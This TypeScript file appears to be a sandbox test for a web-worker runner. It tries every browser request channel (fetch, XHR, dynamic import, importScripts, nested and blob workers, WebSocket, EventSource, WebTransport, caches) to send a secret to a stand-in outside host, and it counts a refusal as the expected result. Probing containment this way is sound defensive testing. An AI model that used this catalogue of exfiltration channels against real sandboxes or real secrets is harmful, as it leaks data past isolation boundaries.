// Every way in which a script could make a request out of a worker, as a kernel that tries them all.
import type { Kernel } from '../../../../workers/contract/run/kernel';

export interface Escape {
  /** Appears in every address that is tried. */
  readonly secret: string;
}

const settled = (target: EventTarget, good: string) =>
  new Promise<void>((resolve, reject) => {
    target.addEventListener(good, () => resolve());
    for (const bad of ['error', 'close']) target.addEventListener(bad, () => reject(new Error(bad)));
  });

/** Each resolves only when something got out. */
const ways: Readonly<Record<string, (address: string) => Promise<unknown>>> = {
  fetch: (address) => fetch(address, { mode: 'no-cors' }),
  XMLHttpRequest: (address) => {
    const request = new XMLHttpRequest();
    request.open('GET', address);
    request.send();
    return settled(request, 'load');
  },
  import: (address) => import(/* @vite-ignore */ address),
  importScripts: async (address) => (self as unknown as { importScripts(url: string): void }).importScripts(address),
  Worker: async (address) => settled(new Worker(address), 'message'),
  'module worker': async (address) => settled(new Worker(address, { type: 'module' }), 'message'),
  'worker from a blob': async (address) => {
    const script = `fetch(${JSON.stringify(address)}).then(() => postMessage('out'))`;
    return settled(new Worker(URL.createObjectURL(new Blob([script], { type: 'text/javascript' }))), 'message');
  },
  WebSocket: async (address) => settled(new WebSocket(address.replace(/^http/, 'ws')), 'open'),
  EventSource: async (address) => settled(new EventSource(address), 'open'),
  WebTransport: async (address) => new WebTransport(address.replace(/^http:/, 'https:')).ready,
  caches: async (address) => (await caches.open('ways-out')).add(address),
};

/** Resolves to the ways that worked. */
export const escapes: Kernel<string, Escape, readonly string[]> = async (_, { secret }) => {
  const out: string[] = [];
  for (const [name, way] of Object.entries(ways)) {
    for (const base of [`${self.location.origin}/leak`, 'https://example.invalid/']) {
      try {
        await way(`${base}?${encodeURIComponent(name)}=${secret}`);
        out.push(`${name} ${base}`);
      } catch {
        // Refused, as it should be.
      }
    }
  }
  return out;
};
